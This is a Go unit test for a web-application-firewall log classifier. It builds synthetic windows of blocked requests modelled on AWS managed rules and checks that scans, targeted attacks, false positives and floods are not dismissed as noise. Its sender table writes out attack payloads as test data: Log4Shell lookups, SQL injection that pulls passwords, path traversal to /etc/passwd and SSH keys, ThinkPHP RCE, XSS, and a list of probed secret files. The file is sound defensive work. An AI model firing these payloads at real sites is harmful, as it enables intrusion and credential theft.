package waf

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
)

// Windows that were written after the weights were set, from what the tools
// and rule groups of AWS do and not from our corpus, to see whether the verdict
// holds elsewhere. Their labels say who sent the requests.

const (
	coreRules      = "AWS#AWSManagedRulesCommonRuleSet"
	sqlRules       = "AWS#AWSManagedRulesSQLiRuleSet"
	reputationList = "AWS#AWSManagedRulesAmazonIpReputationList"
	anonymousList  = "AWS#AWSManagedRulesAnonymousIpList"
	wordpressRules = "AWS#AWSManagedRulesWordPressRuleSet"
	takeoverRules  = "AWS#AWSManagedRulesATPRuleSet"
)

var hunted = []string{
	"/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php", "/phpmyadmin/index.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/actuator/health", "/boaform/admin/formLogin", "/cgi-bin/luci", "/.aws/credentials", "/server-status", "/solr/admin/info/system", "/HNAP1",
	"/owa/auth/logon.aspx", "/config.json", "/backup.zip", "/.DS_Store", "/api/v1/pods", "/manager/html", "/_ignition/execute-solution",
	"/telescope/requests", "/console/", "/druid/index.html", "/geoserver/web/", "/login.action", "/shell.php", "/alfa.php", "/debug/default/view",
}

// elsewhere is a sender: the ith of n requests of one window.
type elsewhere struct {
	label Kind
	name  string
	send  func(r *rand.Rand, i int) request
}

func pick[T any](r *rand.Rand, from ...T) T { return from[r.IntN(len(from))] }

func stoppedBy(group, rule string, q request) request {
	q.group, q.rule, q.action, q.ruleType = group, rule, "BLOCK", "MANAGED_RULE_GROUP"
	if q.method == "" {
		q.method = "GET"
	}
	return q
}

func overLimit(q request) request {
	q.rule, q.action, q.ruleType = "rate-2000", "BLOCK", "RATE_BASED"
	if q.method == "" {
		q.method = "GET"
	}
	return q
}

func person(r *rand.Rand, method, path, query string) request {
	return request{method: method, path: path, query: query, agent: pick(r, ordinaryAgents...), address: address(r, 5000), cookie: true, referer: true, browser: true}
}

var fromElsewhere = []elsewhere{
	{Scan, "a list of secrets, one address", func(r *rand.Rand, i int) request {
		return stoppedBy(coreRules, pick(r, "RestrictedExtensions_URIPATH", "GenericLFI_URIPATH"), request{path: hunted[i%len(hunted)], agent: "Go-http-client/1.1", address: "185.7.7.7"})
	}},
	{Scan, "a botnet of bad reputation", func(r *rand.Rand, _ int) request {
		agent := pick(r, "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "", "python-requests/2.31.0")
		return stoppedBy(reputationList, "AWSManagedIPReputationList", request{path: pick(r, append(hunted, "/", "/robots.txt")...), agent: agent, address: address(r, 5000)})
	}},
	{Scan, "known holes one after the other", func(r *rand.Rand, i int) request {
		q, rule := request{path: hunted[i%len(hunted)], agent: pick(r, ordinaryAgents...), address: "91.2.2.2"}, "RestrictedExtensions_URIPATH"
		switch i % 6 {
		case 1:
			q.path, q.query, rule = "/", "q=${jndi:ldap://x.oast.fun/a}", "GenericRFI_QUERYARGUMENTS"
		case 2:
			q.path, rule = "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "GenericLFI_URIPATH"
		case 3:
			q.path, q.query, rule = "/index.php", `s=/index/think\app/invokefunction&function=call_user_func_array`, "GenericRFI_QUERYARGUMENTS"
		case 4:
			q.path, q.query, rule = "/search", "q=%3Cscript%3Ealert(1)%3C/script%3E", "CrossSiteScripting_QUERYARGUMENTS"
		}
		return stoppedBy(coreRules, rule, q)
	}},
	{Scan, "WordPress log-ins everywhere", func(r *rand.Rand, _ int) request {
		path := pick(r, "/wp-login.php", "/xmlrpc.php", "/wp-admin/setup-config.php", "/wordpress/wp-login.php", "/blog/wp-login.php")
		return stoppedBy(wordpressRules, "WordPressExploitablePaths_URIPATH", request{path: path, method: "POST", agent: pick(r, ordinaryAgents...), address: address(r, 5000)})
	}},
	{Scan, "a site scanner at the front page", func(r *rand.Rand, i int) request {
		tried := [][2]string{
			{"1'%20AND%201=1--", "SQLi_QUERYARGUMENTS"},
			{"../../../../etc/passwd", "GenericLFI_QUERYARGUMENTS"},
			{"<script>alert(9)</script>", "CrossSiteScripting_QUERYARGUMENTS"},
			{"http://evil.example/x", "GenericRFI_QUERYARGUMENTS"},
			{"%0d%0aSet-Cookie:a=1", "CrossSiteScripting_QUERYARGUMENTS"},
			{"{{7*7}}", "CrossSiteScripting_QUERYARGUMENTS"},
		}[i%6]
		return stoppedBy(coreRules, tried[1], request{path: "/", query: "id=" + tried[0], agent: "Mozilla/5.0 (compatible; acunetix-wvs)", address: "45.9.9.9"})
	}},
	{Scan, "a web server scanner", func(r *rand.Rand, i int) request {
		path := pick(r, append(hunted, fmt.Sprintf("/cgi-bin/test%d.cgi", r.IntN(80)), fmt.Sprintf("/admin%d/", r.IntN(60)))...)
		rule := pick(r, "RestrictedExtensions_URIPATH", "GenericLFI_URIPATH", "CrossSiteScripting_URIPATH")
		return stoppedBy(coreRules, rule, request{path: path, agent: fmt.Sprintf("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)", i), address: "103.4.4.4"})
	}},
	{Scan, "crawlers without a name", func(r *rand.Rand, _ int) request {
		path := pick(r, "/", "/robots.txt", "/favicon.ico", "/sitemap.xml", "/.well-known/security.txt", "/login")
		return stoppedBy(coreRules, "NoUserAgent_HEADER", request{path: path, address: address(r, 5000)})
	}},

	{Targeted, "a tool at the product search", func(r *rand.Rand, i int) request {
		q := fmt.Sprintf("category=3%%27%%20AND%%20(SELECT%%20*%%20FROM%%20(SELECT(SLEEP(%d)))x%d)--%%20", i%5, i)
		return stoppedBy(sqlRules, "SQLi_QUERYARGUMENTS", request{path: "/products/search", query: q, agent: "sqlmap/1.8#stable (https://sqlmap.org)", address: "45.1.1.1"})
	}},
	{Targeted, "letter by letter from many addresses", func(r *rand.Rand, i int) request {
		q := fmt.Sprintf("expand=items%%27)%%20OR%%20(SELECT%%20ASCII(SUBSTR(password,%d,1))%%20FROM%%20users%%20LIMIT%%201)=%d", i, r.IntN(128))
		return stoppedBy(sqlRules, "SQLi_QUERYARGUMENTS", person(r, "GET", fmt.Sprintf("/api/orders/%d", 1000+r.IntN(9000)), q))
	}},
	{Targeted, "passwords of others", func(r *rand.Rand, i int) request {
		rule := pick(r, "VolumetricIpFailedLoginResponseHigh", "AttributeCompromisedCredentials", "AttributePasswordTraversal")
		return stoppedBy(takeoverRules, rule, request{path: "/api/login", method: "POST", agent: pick(r, ordinaryAgents...), address: address(r, 40), browser: true})
	}},
	{Targeted, "passwords of others into the rate limit", func(r *rand.Rand, i int) request {
		return overLimit(request{path: "/account/login", method: "POST", agent: pick(r, ordinaryAgents...), address: address(r, 8)})
	}},
	{Targeted, "up the tree of the downloads", func(r *rand.Rand, i int) request {
		up := ""
		for range i%9 + 1 {
			up += "..%2f"
		}
		q := person(r, "GET", "/invoices/download", "file="+up+pick(r, "etc/passwd", "proc/self/environ", "var/www/.env", "root/.ssh/id_rsa"))
		q.address = "133.1.1.1"
		return stoppedBy(coreRules, "GenericLFI_QUERYARGUMENTS", q)
	}},
	{Targeted, "the metadata service by a web hook", func(r *rand.Rand, i int) request {
		return stoppedBy(coreRules, "EC2MetaDataSSRF_BODY", request{path: fmt.Sprintf("/api/v2/webhooks/%d/test", i%4), method: "POST", agent: "curl/8.4.0", address: address(r, 3), cookie: true})
	}},
	{Targeted, "the bodies of one endpoint", func(r *rand.Rand, i int) request {
		return stoppedBy(coreRules, pick(r, "SizeRestrictions_BODY", "CrossSiteScripting_BODY", "GenericRFI_BODY"), request{path: "/graphql", method: "POST", agent: "python-httpx/0.27.0", address: address(r, 2)})
	}},
	{Targeted, "a script for the reviews", func(r *rand.Rand, i int) request {
		q := person(r, "POST", "/reviews/new", "")
		q.address = "126.3.3.3"
		return stoppedBy(coreRules, "CrossSiteScripting_BODY", q)
	}},
	{Targeted, "one in seven, among a list of secrets", func(r *rand.Rand, i int) request {
		if i%7 == 0 {
			q := fmt.Sprintf("category=3%%27%%20UNION%%20SELECT%%20%d,password%%20FROM%%20users--%%20", i)
			return stoppedBy(sqlRules, "SQLi_QUERYARGUMENTS", request{path: "/products/search", query: q, agent: "Mozilla/5.0", address: "185.7.7.7"})
		}
		return stoppedBy(coreRules, "RestrictedExtensions_URIPATH", request{path: hunted[i%len(hunted)], agent: "Go-http-client/1.1", address: "185.7.7.7"})
	}},

	{FalsePositive, "uploads that are too big", func(r *rand.Rand, _ int) request {
		return stoppedBy(coreRules, "SizeRestrictions_BODY", person(r, "POST", pick(r, "/api/products/import", "/reviews/new"), ""))
	}},
	{FalsePositive, "back to where they came from", func(r *rand.Rand, _ int) request {
		return stoppedBy(coreRules, "GenericRFI_QUERYARGUMENTS", person(r, "GET", "/login", fmt.Sprintf("next=https%%3A%%2F%%2Fshop.example%%2Fcart%%3Fid%%3D%d", r.IntN(9999))))
	}},
	{FalsePositive, "long links of a campaign", func(r *rand.Rand, _ int) request {
		id := make([]byte, 300)
		for i := range id {
			id[i] = "abcdefXYZ0189-_"[r.IntN(15)]
		}
		return stoppedBy(coreRules, "SizeRestrictions_QUERYSTRING", person(r, "GET", pick(r, "/", "/campaign/winter", fmt.Sprintf("/items/%d", r.IntN(99))), "utm_source=line&gclid="+string(id)))
	}},
	{FalsePositive, "editors who write HTML", func(r *rand.Rand, _ int) request {
		q := person(r, "PUT", fmt.Sprintf("/admin/articles/%d", r.IntN(50)), "")
		q.address = fmt.Sprintf("203.0.113.%d", r.IntN(6))
		return stoppedBy(coreRules, "CrossSiteScripting_BODY", q)
	}},
	{FalsePositive, "a partner in a data centre", func(r *rand.Rand, _ int) request {
		return stoppedBy(anonymousList, "HostingProviderIPList", request{path: "/api/v1/stock/sync", method: "POST", agent: "PartnerSync/3.2", address: fmt.Sprintf("34.84.1.%d", r.IntN(4)), cookie: true})
	}},
	{FalsePositive, "the app without a name", func(r *rand.Rand, _ int) request {
		path := pick(r, "/api/app/v3/home", "/api/app/v3/push/token", "/api/app/v3/cart")
		return stoppedBy(coreRules, "NoUserAgent_HEADER", request{path: path, method: pick(r, "GET", "POST"), address: address(r, 5000), cookie: true})
	}},

	{Flood, "the front page, over and over", func(r *rand.Rand, _ int) request {
		return overLimit(request{path: pick(r, "/", "/items"), query: fmt.Sprint(r.IntN(1_000_000_000)), agent: pick(r, ordinaryAgents...), address: address(r, 60)})
	}},
	{Flood, "somebody who copies the shop", func(r *rand.Rand, i int) request {
		return overLimit(request{path: fmt.Sprintf("/items/%d", i), agent: "Scrapy/2.11 (+https://scrapy.org)", address: fmt.Sprintf("52.1.2.%d", i%5)})
	}},
	{Flood, "the first minute of a sale", func(r *rand.Rand, _ int) request {
		return overLimit(person(r, "GET", pick(r, "/sale/2026", "/cart", "/checkout"), ""))
	}},
}

// Sets that weights were not set on. Of the second and the third one sender each
// was taken for noise at first sight, of the fourth all; guards were changed so
// that they are not.
func TestWindowsFromElsewhereAreNotTakenForNoiseEither(t *testing.T) {
	for _, set := range []struct {
		name    string
		senders []elsewhere
	}{{"elsewhere", fromElsewhere}, {"further away", furtherAway}, {"judged last", judgedLast}, {"under cover", underCover}} {
		for _, size := range []struct{ n, runs int }{{5, 20}, {50, 6}, {500, 2}} {
			seen := matrix{}
			for _, e := range set.senders {
				verdicts := map[Kind]int{}
				for run := range size.runs {
					v := e.judged(t, size.n, run)
					seen.add(e.label, v.Kind)
					verdicts[v.Kind]++
					if e.label == Targeted && v.Kind != Targeted && v.Kind != Unsure {
						t.Errorf("%s, %d requests: taken for %s: %+v", e.name, size.n, v.Kind, v.Reasons)
					}
				}
				if verdicts[e.label] < size.runs {
					t.Logf("%d: %s %q: %v", size.n, e.label, e.name, verdicts)
				}
			}
			t.Logf("%s, windows of %d:\n%v", set.name, size.n, seen)
		}
	}
}

func (e elsewhere) judged(t *testing.T, n, run int) Verdict {
	r := rand.New(rand.NewPCG(uint64(n), uint64(run)))
	requests := make([]request, n)
	for i := range requests {
		requests[i] = e.send(r, i)
	}
	sum, err := Summarize(strings.NewReader(window(requests)))
	if err != nil {
		t.Fatal(err)
	}
	return Judge(sum)
}
